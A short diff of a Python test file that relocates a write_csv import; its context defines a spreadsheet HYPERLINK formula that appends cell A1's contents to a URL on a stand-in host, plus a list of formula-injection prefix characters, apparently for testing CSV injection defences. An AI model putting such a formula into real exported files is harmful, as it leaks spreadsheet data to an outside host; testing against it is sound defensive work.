@@ -9,8 +9,8 @@ import pytest
 from night import Night
 from public_page import Public
 
+from db.csv_file import write_csv
 from db.schema import bureau, department
-from reporting.exports.csv_file import write_csv
 
 FORMULA = '=HYPERLINK("http://there.example/?"&A1,"here")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
